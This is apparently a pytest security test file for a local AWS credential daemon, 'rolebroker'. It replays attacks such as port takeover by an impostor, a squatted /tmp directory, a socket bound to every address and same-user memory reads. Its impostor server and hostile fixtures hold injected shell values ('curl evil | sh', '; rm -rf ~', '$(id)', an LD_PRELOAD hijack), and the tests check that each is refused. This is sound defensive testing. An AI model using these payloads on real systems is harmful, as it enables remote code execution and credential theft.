"""Trust, round two: attacks on the CLI-daemon channel and the daemon's process, replayed as
the attacker would run them, against real `rolebroker serve` processes.

- another local user takes the TCP port of a daemon that died (kill -9) and answers like it;
- a second `serve` tries to take over a live daemon's runtime directory;
- another user squats `/tmp/rolebroker-$UID` before the victim's first start;
- systemd hands the daemon a socket bound to every address;
- a process of the same user (without root's capabilities) reads the daemon's memory.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from rolebroker.clients.envvars import UntrustedAnswer, variables_for
from tests.attacker import OtherUser
from tests.harness import Broker, Lines
from tests.test_cli import cli_env, rb
from tests.processes import (
    ROLEBROKER, STARTUP_TIMEOUT, Serve, daemon_env, free_port, needs_rolebroker, rolebroker, socket_activated,
)
from tests.test_systemd import SOCKET_ACTIVATE

pytestmark = needs_rolebroker

# What the impostor sends back to anything that asks: variables that would run its code.
IMPOSTOR = r'''
import http.server, json, sys, os
record = open(sys.argv[2], "a")

class Impostor(http.server.BaseHTTPRequestHandler):
    def answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("latin-1") if length else ""
        record.write(json.dumps({"line": self.requestline, "headers": dict(self.headers), "body": body}) + "\n")
        record.flush()
        evil = {"PATH": "/tmp/evil", "LD_PRELOAD": "/tmp/evil.so", "PROMPT_COMMAND": "curl evil | sh"}
        reply = json.dumps({
            "set": evil, "unset": [], "notes": [], "profile": "dev", "token": "rbt_" + "e" * 43,
            "name": "evil", "profiles": ["dev"], "expires_at": None, "endpoint_url": "http://127.0.0.1:1/x",
            "AccessKeyId": "ASIAIMPOSTOR", "SecretAccessKey": "impostor", "Token": "impostor",
            "Expiration": "2099-01-01T00:00:00Z", "mfa_required": True, "session": "x",
            "session_expires_at": 4102444800, "profiles_served": ["dev"], "now": 0, "config_error": None,
            "config_files": [], "tokens": [], "warm_error": None,
        }).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)
    do_GET = do_POST = do_DELETE = answer
    def log_message(self, *args): pass

server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Impostor)
print("listening", flush=True)
server.serve_forever()
'''


def start_demo(env: dict[str, str], started: list[Serve], *extra: str,
               prefix: tuple[str, ...] = ()) -> tuple[Serve, int]:
    """`rolebroker serve --demo` on a free port; (process, port) once it answers."""
    daemon = Serve([*prefix, str(ROLEBROKER), "serve", "--demo", "--port", "0", *extra], env)
    started.append(daemon)
    line = daemon.log.wait_for(" on http://127.0.0.1:", timeout=STARTUP_TIMEOUT)
    port = int(re.search(r"127\.0\.0\.1:(\d+)", line).group(1))  # type: ignore[union-attr]
    return daemon, port


def login(env: dict[str, str], code: str = "123456") -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(ROLEBROKER), "login", "dev"], env=env, input=code + "\n",
                          capture_output=True, text=True, timeout=60)


# ---- 1. an impostor on the port of a dead daemon -----------------------------------------------

def test_an_impostor_on_a_dead_daemons_port_gets_nothing_and_runs_nothing(
        tmp_path: Path, other_user: OtherUser, started: list[Serve]) -> None:
    env = daemon_env(tmp_path)
    daemon, port = start_demo(env, started)
    assert login(env).returncode == 0
    daemon.proc.kill()  # kill -9 (or the OOM killer): nothing is cleaned up
    daemon.proc.wait(STARTUP_TIMEOUT)
    assert (tmp_path / "run" / "control.sock").exists()  # what a dead daemon leaves behind

    record = other_user.home / "record.jsonl"
    impostor = other_user.python_popen(IMPOSTOR, str(port), str(record), stdout=subprocess.PIPE,
                                       stderr=subprocess.STDOUT)
    try:
        assert impostor.stdout is not None
        Lines(impostor.stdout).wait_for("listening", timeout=STARTUP_TIMEOUT)  # the port is the impostor's now

        attempts = {
            "login": subprocess.run([str(ROLEBROKER), "login", "dev"], env=env, input="654321\n",
                                    capture_output=True, text=True, timeout=60),
            "login --code": rolebroker(env, "login", "dev", "--code", "654321"),
            "env": rolebroker(env, "env", "dev"),
            "exec": rolebroker(env, "exec", "dev", "--", "sh", "-c", "echo ran"),
            "status": rolebroker(env, "status"),
            "credential-process": rolebroker(env, "credential-process", "dev"),
            "token list": rolebroker(env, "token", "list"),
        }
        for name, result in attempts.items():
            assert result.returncode != 0, name
            assert "not running" in result.stdout + result.stderr, (name, result.stdout, result.stderr)
            assert "ran" not in result.stdout and "export" not in result.stdout, name  # nothing to eval, nothing run
            assert "IMPOSTOR" not in result.stdout, name
        # A shell that evals the output evaluates nothing at all.
        shell = subprocess.run(["sh", "-c", f'eval "$("{ROLEBROKER}" env dev)"; echo "PATH=$PATH"'],
                               env=env, capture_output=True, text=True, timeout=60)
        assert f"PATH={env['PATH']}" in shell.stdout and "/tmp/evil" not in shell.stdout

        # Restarting on that port is refused without sending the user to a `status` the impostor could answer.
        again = subprocess.run([str(ROLEBROKER), "serve", "--demo", "--port", str(port)], env=env,
                               capture_output=True, text=True, timeout=60)
        assert again.returncode == 1
        assert f"port {port} on 127.0.0.1 is in use by another program" in again.stderr
        assert "status" not in again.stderr
    finally:
        impostor.kill()
        impostor.wait(STARTUP_TIMEOUT)
    # Not one connection reached the impostor: no code, no token, no request at all.
    assert not record.exists() or record.read_text() == ""


# ---- 9. one daemon per runtime directory -----------------------------------------------------------

def test_a_second_daemon_is_refused_and_the_first_keeps_its_files(tmp_path: Path, started: list[Serve]) -> None:
    env = daemon_env(tmp_path)
    first, _ = start_demo(env, started)
    assert login(env).returncode == 0
    second = subprocess.run([str(ROLEBROKER), "serve", "--demo", "--port", "0"], env=env,
                            capture_output=True, text=True, timeout=60)
    assert second.returncode == 1
    assert f"another rolebroker daemon (pid {first.proc.pid}) is running" in second.stderr
    assert "Traceback" not in second.stderr
    # The first daemon's files and sessions are untouched: the CLI still reaches it.
    status = rolebroker(env, "status", "--json")
    assert status.returncode == 0, status.stdout
    dev = next(r for r in json.loads(status.stdout)["profiles"] if r["profile"] == "dev")
    assert dev["mfa_session_expires_at"] is not None and not dev["login_required"]
    assert json.loads((tmp_path / "run" / "daemon.json").read_text())["pid"] == first.proc.pid

    # Once the first is dead (however it died), the next one takes over its leftovers.
    first.proc.kill()
    first.proc.wait(STARTUP_TIMEOUT)
    third, _ = start_demo(env, started)
    assert rolebroker(env, "status").returncode == 1  # running; the demo profiles need a login
    third.signal(signal.SIGTERM)
    assert third.wait() == 0
    assert sorted(p.name for p in (tmp_path / "run").iterdir() if p.name != "demo") == ["daemon.lock"]


# ---- 10. a squatted runtime directory in a shared /tmp --------------------------------------------

@pytest.mark.parametrize("planted", ["directory", "symlink", "file"])
def test_a_squatted_tmp_runtime_directory_is_refused_clearly(tmp_path: Path, other_user: OtherUser,
                                                             planted: str) -> None:
    shared = Path(tempfile.mkdtemp(prefix="rolebroker-shared-tmp-"))
    try:
        shared.chmod(0o1777)  # a /tmp of our own: world-writable, sticky
        squatted = shared / f"rolebroker-{os.getuid()}"
        make = {"directory": f"os.mkdir({str(squatted)!r}, 0o777)",
                "symlink": f"os.symlink({str(other_user.home)!r}, {str(squatted)!r})",
                "file": f"open({str(squatted)!r}, 'w').close()"}[planted]
        made = other_user.run_python(f"import os\n{make}\n")
        assert made.returncode == 0, made.stderr
        env = {k: v for k, v in daemon_env(tmp_path).items() if k not in ("ROLEBROKER_RUNTIME_DIR", "XDG_RUNTIME_DIR")}
        env["TMPDIR"] = str(shared)
        for args in (["serve", "--demo", "--port", "0"], ["serve", "--port", "0"]):
            result = subprocess.run([str(ROLEBROKER), *args], env=env, capture_output=True, text=True, timeout=60)
            assert result.returncode == 1, result.stderr
            assert "Traceback" not in result.stderr
            assert str(squatted) in result.stderr
            cause = {"directory": f"belongs to uid {other_user.uid}", "symlink": "is a symbolic link",
                     "file": "is a file"}[planted]
            assert cause in result.stderr and "XDG_RUNTIME_DIR" in result.stderr, result.stderr
        status = rolebroker(env, "status")
        assert status.returncode == 3 and "Traceback" not in status.stdout + status.stderr
        assert os.lstat(squatted).st_uid == other_user.uid  # nothing of ours was written into it
        target = squatted if planted == "directory" else other_user.home
        assert not {"control.sock", "daemon.json", "daemon.lock", "demo"} & {p.name for p in target.iterdir()}
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# ---- 8. a socket from systemd on every address -----------------------------------------------------

@pytest.mark.skipif(SOCKET_ACTIVATE is None, reason="systemd-socket-activate is not installed (apt-get install systemd)")
def test_a_systemd_socket_on_every_address_is_refused(tmp_path: Path, started: list[Serve]) -> None:
    assert SOCKET_ACTIVATE is not None
    port = free_port()
    # `ListenStream=9911`: every address, so other machines and network namespaces too.
    activator, _ = socket_activated(SOCKET_ACTIVATE, tmp_path, [f"0.0.0.0:{port}"], "--demo")
    started.append(activator)
    with socket.create_connection(("127.0.0.1", port), timeout=STARTUP_TIMEOUT) as knock:
        knock.sendall(b"GET /v1/credentials/dev HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        activator.log.wait_for("make the socket unit's ListenStream= name an address")
        knock.settimeout(STARTUP_TIMEOUT)
        try:
            answer = knock.recv(65536)
        except ConnectionResetError:
            answer = b""  # the daemon exited without accepting: the kernel resets the queued connection
        assert b"AccessKeyId" not in answer  # refused: no answer, let alone credentials
    assert "0.0.0.0" in "".join(activator.log.seen)


# ---- 5. the daemon's memory stays its own -------------------------------------------------------------

# Run as this uid with no capabilities at all: an ordinary user's process. (We run as root in
# CI, and root's capabilities would let any reader in and keep any capability-less reader out.)
WITHOUT_CAPABILITIES = (str(shutil.which("setpriv")), "--inh-caps=-all", "--bounding-set=-all", "--")


def _read_environ_as_the_same_user(pid: int) -> subprocess.CompletedProcess[str]:
    """Read /proc/PID/environ as another process of the daemon's user can (a compromised
    tool, a malicious package's install script): the memory-reading access ptrace checks."""
    script = f"open('/proc/{pid}/environ', 'rb').read(); print('read')"
    return subprocess.run([*WITHOUT_CAPABILITIES, "/usr/bin/python3", "-c", script],
                          capture_output=True, text=True, timeout=30)


@pytest.mark.skipif(shutil.which("setpriv") is None or not Path("/proc/self/environ").exists(),
                    reason="needs setpriv (util-linux) and /proc")
def test_the_daemon_cannot_be_dumped_or_read_by_the_users_other_processes(tmp_path: Path,
                                                                          started: list[Serve]) -> None:
    env = daemon_env(tmp_path)
    daemon, _ = start_demo(env, started, prefix=WITHOUT_CAPABILITIES)
    assert login(env).returncode == 0
    limits = Path(f"/proc/{daemon.proc.pid}/limits").read_text()
    assert re.search(r"Max core file size\s+0\s+0", limits), limits
    # An ordinary process of the same user can be read this way (so the check can fail) ...
    with subprocess.Popen([*WITHOUT_CAPABILITIES, "sleep", "60"]) as ordinary:
        try:
            seen = _read_environ_as_the_same_user(ordinary.pid)
            assert seen.stdout.strip() == "read", seen.stderr
        finally:
            ordinary.kill()
    # ... the daemon cannot: the kernel refuses ptrace-like access to a non-dumpable process.
    attempt = _read_environ_as_the_same_user(daemon.proc.pid)
    assert attempt.returncode != 0 and "PermissionError" in attempt.stderr, attempt
    daemon.signal(signal.SIGTERM)
    assert daemon.wait() == 0




# ---- 11. tokens that do not outlive their use --------------------------------------------------------

def _token_names(broker: Broker) -> list[str]:
    return [row["name"] for row in broker.control().request("GET", "/v1/tokens")["tokens"]]


def _wait_until(condition: Callable[[], bool], timeout: float = 15.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "the condition did not hold in time"
        time.sleep(0.05)  # polling a condition with a deadline, not waiting a fixed time


def test_an_exec_token_dies_with_a_sigkilled_exec(broker: Broker) -> None:
    broker.login("dev")
    script = 'echo "$AWS_CONTAINER_AUTHORIZATION_TOKEN"; exec sleep 60'
    wrapper = subprocess.Popen([str(ROLEBROKER), "exec", "dev", "--", "sh", "-c", script],
                               env=cli_env(broker.daemon.settings.runtime_dir), stdout=subprocess.PIPE, text=True,
                               start_new_session=True)
    try:
        assert wrapper.stdout is not None
        token = wrapper.stdout.readline().strip()
        assert broker.raw_get("dev", token)[0] == 200  # the command's token works while it runs
        assert [n for n in _token_names(broker) if n.startswith("exec-dev-")]
        wrapper.kill()  # SIGKILL: `exec` gets no chance to revoke anything
        wrapper.wait(STARTUP_TIMEOUT)
        _wait_until(lambda: broker.raw_get("dev", token)[0] == 401)
        assert not [n for n in _token_names(broker) if n.startswith("exec-dev-")]
    finally:
        os.killpg(wrapper.pid, signal.SIGKILL)  # the orphaned `sleep`
        wrapper.wait(STARTUP_TIMEOUT)
        if wrapper.stdout is not None:
            wrapper.stdout.close()


def test_env_reuses_its_token_instead_of_piling_them_up(broker: Broker) -> None:
    broker.login("dev")  # env needs a session: without a terminal it would not ask
    outputs = [rb(broker, "env", "dev", "--format", "json") for _ in range(4)]
    assert all(o.returncode == 0 for o in outputs), [o.stderr for o in outputs]
    tokens = {json.loads(o.stdout)["set"]["AWS_CONTAINER_AUTHORIZATION_TOKEN"] for o in outputs}
    assert len(tokens) == 1
    assert len([n for n in _token_names(broker) if n.startswith("host-dev-")]) == 1
    # The daemon keeps the value to hand it out again: in memory, never in a repr.
    kept = broker.daemon.leases
    assert not [t for t in tokens if t in repr(kept) or t in repr(vars(kept))]
    docker = rb(broker, "env", "dev", "--format", "json", "--target", "docker")
    assert json.loads(docker.stdout)["set"]["AWS_CONTAINER_AUTHORIZATION_TOKEN"] not in tokens  # another use
    # Past half of its life, a new one is minted; the old one stays valid until it expires.
    broker.advance(4 * 86400)
    broker.login("dev")  # the MFA session ended meanwhile
    fresh = json.loads(rb(broker, "env", "dev", "--format", "json").stdout)["set"]["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
    assert fresh not in tokens
    assert len([n for n in _token_names(broker) if n.startswith("host-dev-")]) == 2


def test_env_output_file_is_private_whatever_the_umask(broker: Broker, tmp_path: Path) -> None:
    broker.login("dev")  # env needs a session: without a terminal it would not ask
    target = tmp_path / "dev.env"
    result = subprocess.run([str(ROLEBROKER), "env", "dev", "--format", "dotenv", "--output", str(target)],
                            env=cli_env(broker.daemon.settings.runtime_dir), capture_output=True, text=True,
                            timeout=60, preexec_fn=lambda: os.umask(0o022) and None)
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""  # the token went to the file only
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert re.search(r"^AWS_CONTAINER_AUTHORIZATION_TOKEN=rbt_", target.read_text(), re.M)


def test_token_create_names_its_scope(broker: Broker) -> None:
    bare = rb(broker, "token", "create")
    assert bare.returncode == 2 and "--profile" in bare.stderr and "--all-profiles" in bare.stderr
    assert _token_names(broker) == []  # nothing was made
    both = rb(broker, "token", "create", "--profile", "dev", "--all-profiles")
    assert both.returncode == 2
    scoped = rb(broker, "token", "create", "--profile", "dev", "--name", "ci")
    assert scoped.returncode == 0 and _token_names(broker) == ["ci"]


# ---- 1. the CLI names the variables, the daemon only describes ------------------------------------

HOSTILE_DESCRIPTIONS = [
    {"endpoint_url": "http://127.0.0.1:9911/v1/credentials/dev; rm -rf ~"},
    {"endpoint_url": "http://evil.example:80/v1/credentials/dev"},
    {"endpoint_url": "http://127.0.0.1:9911/v1/credentials/dev", "region": "eu-west-1'; curl evil|sh; '"},
    {"endpoint_url": "http://127.0.0.1:9911/v1/credentials/dev", "sts_endpoint_url": "https://evil.example/"},
    {"endpoint_url": "http://169.254.170.2:9911/v1/credentials/dev", "target": "docker", "no_proxy": ["$(id)"]},
]


@pytest.mark.parametrize("described", HOSTILE_DESCRIPTIONS)
def test_env_refuses_a_description_of_the_wrong_shape(described: dict[str, Any]) -> None:
    with pytest.raises(UntrustedAnswer):
        variables_for(described, "rbt_" + "a" * 43)


def test_env_sets_only_variables_it_knows_whatever_the_daemon_adds() -> None:
    described = {"endpoint_url": "http://127.0.0.1:9911/v1/credentials/dev", "region": "eu-west-1",
                 "set": {"PATH": "/tmp/evil", "LD_PRELOAD": "/tmp/evil.so"}, "unset": ["HOME"],
                 "PROMPT_COMMAND": "curl evil | sh"}
    set_vars, unset = variables_for(described, "rbt_" + "a" * 43)
    assert set(set_vars) == {"AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_REGION", "AWS_DEFAULT_REGION",
                             "AWS_CONTAINER_AUTHORIZATION_TOKEN"}
    assert "HOME" not in unset and "PATH" not in unset


@pytest.mark.skipif(SOCKET_ACTIVATE is None, reason="systemd-socket-activate is not installed (apt-get install systemd)")
def test_the_cli_starts_a_socket_activated_daemon_through_the_control_socket(tmp_path: Path,
                                                                             started: list[Serve]) -> None:
    assert SOCKET_ACTIVATE is not None
    (tmp_path / "run").mkdir(mode=0o700)  # systemd's DirectoryMode=0700
    control = tmp_path / "run" / "control.sock"
    activator, env = socket_activated(SOCKET_ACTIVATE, tmp_path, [f"127.0.0.1:{free_port()}", str(control)],
                                      "--demo")
    started.append(activator)
    control.chmod(0o600)  # systemd's SocketMode=0600
    assert not (tmp_path / "run" / "daemon.lock").exists()  # nothing runs yet
    status = rolebroker(env, "status")  # the CLI's first connection starts the daemon
    assert status.returncode == 1, status.stdout + status.stderr  # running; the demo profiles need a login
    assert json.loads((tmp_path / "run" / "daemon.json").read_text())["pid"] == activator.proc.pid
    activator.signal(signal.SIGTERM)
    assert activator.wait() == 0
    assert control.exists()  # systemd's socket, not the daemon's to remove


PEER_PROBE = r'''
import socket, sys
sock = socket.socket(socket.AF_UNIX)
sock.settimeout(20)
sock.connect(sys.argv[1])
try:
    sock.sendall(b"GET /v1/status HTTP/1.1\r\nHost: rolebroker\r\n\r\n")
    print(repr(sock.recv(65536)))
except OSError as exc:
    print(type(exc).__name__)
'''


def test_the_daemon_hangs_up_on_another_uid_even_if_its_socket_is_opened_up(broker: Broker,
                                                                             other_user: OtherUser) -> None:
    runtime = broker.daemon.settings.runtime_dir
    path = runtime / "control.sock"
    # A careless chmod or ACL: the directory and the socket open to everyone. The uid check stands.
    opened = [p for p in [runtime, *runtime.parents] if p != Path("/")]
    modes = {p: p.stat().st_mode for p in opened}
    try:
        for parent in opened:
            parent.chmod(modes[parent] | 0o001)
        path.chmod(0o666)
        probe = other_user.run_python(PEER_PROBE, str(path))
    finally:
        for parent, mode in modes.items():
            parent.chmod(mode)
        path.chmod(0o600)
    assert probe.returncode == 0, probe.stderr
    assert probe.stdout.strip() in ("b''", "ConnectionResetError", "BrokenPipeError"), probe.stdout
    # The user's own CLI is still served.
    assert broker.control().request("GET", "/v1/status")["profiles"]


# ---- the ECS-port probe sends nothing worth stealing ---------------------------------------------

RECORDING_LISTENER = r'''
import http.server, json, sys
record = open(sys.argv[2], "a")

class Listener(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        record.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\n")
        record.flush()
        # Claims to be the daemon: a 200 JSON answer, as an impostor would give.
        body = json.dumps({"probe": "i-am-the-daemon", "AccessKeyId": "ASIAIMPOSTOR"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_HEAD = do_GET
    def log_message(self, *args): pass

http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Listener).serve_forever()
'''


def test_the_ecs_probe_gives_another_user_no_token_and_is_not_fooled(broker: Broker,
                                                                       other_user: OtherUser) -> None:
    from rolebroker.clients.ecs_probe import reaches_daemon

    port, record = free_port(), other_user.home / "seen.jsonl"
    listener = other_user.python_popen(RECORDING_LISTENER, str(port), str(record))
    try:
        _wait_until(lambda: _accepts("127.0.0.1", port))
        assert reaches_daemon(broker.control(), "dev", address="127.0.0.1", port=port) is False
    finally:
        listener.kill()
        listener.wait(STARTUP_TIMEOUT)
    seen = record.read_text()
    assert "rbp_" in seen  # it was asked, with a challenge ...
    assert "rbt_" not in seen  # ... and never with a client token
    # The daemon itself answers its own challenge, once.
    assert reaches_daemon(broker.control(), "dev", address="127.0.0.1", port=broker.port) is True
    challenge = broker.control().request("POST", "/v1/probes")
    assert broker.raw_get(f"dev/{challenge['probe']}")[2] == {"probe": challenge["answer"]}
    assert broker.raw_get(f"dev/{challenge['probe']}")[0] == 401  # good once


def _accepts(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), timeout=1).close()
    except OSError:
        return False
    return True


def test_a_failing_env_does_not_revoke_the_token_other_shells_hold(broker: Broker, tmp_path: Path) -> None:
    broker.login("dev")
    first = json.loads(rb(broker, "env", "dev", "--format", "json").stdout)["set"]["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
    failed = rb(broker, "env", "dev", "--format", "dotenv", "--output", str(tmp_path / "no" / "such" / "dir"))
    assert failed.returncode == 1 and "cannot write" in failed.stderr
    assert broker.raw_get("dev", first)[0] == 200  # the first shell's token still works
